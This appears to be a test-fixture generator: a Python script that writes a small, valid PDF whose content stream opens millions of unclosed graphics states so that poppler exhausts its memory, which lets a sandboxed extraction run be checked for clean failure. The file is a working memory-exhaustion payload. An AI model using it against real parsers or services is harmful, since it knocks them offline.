#!/usr/bin/env python3
"""Write a small, valid PDF that makes a PDF parser exhaust its memory.

Usage:
  make_hostile_pdf.py OUT.pdf [SAVES]

The single page shows one line of text, then its content stream, compressed
with Flate, opens SAVES nested graphics states ("q", default 50 million)
and never closes them. poppler keeps a copy of the graphics state per "q",
so a file of about 100 KB asks for tens of gigabytes: in a process of its
own under a memory limit, extraction stops with a clear error; in the
calling process it would take the whole run down.

Standard library only; the output is deterministic.
"""
import sys
import zlib


def main():
    if len(sys.argv) not in (2, 3):
        sys.exit(__doc__)
    out_path = sys.argv[1]
    saves = int(sys.argv[2]) if len(sys.argv) == 3 else 50_000_000
    content = b"BT /F1 10 Tf 72 760 Td (Section 1. A hostile document.) Tj ET\n" + b"q " * saves
    stream = zlib.compress(content, 9)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]
    pdf = b"%PDF-1.4\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(pdf))
        pdf += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(pdf)
    pdf += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    pdf += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    pdf += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    with open(out_path, "wb") as f:
        f.write(pdf)


if __name__ == "__main__":
    main()
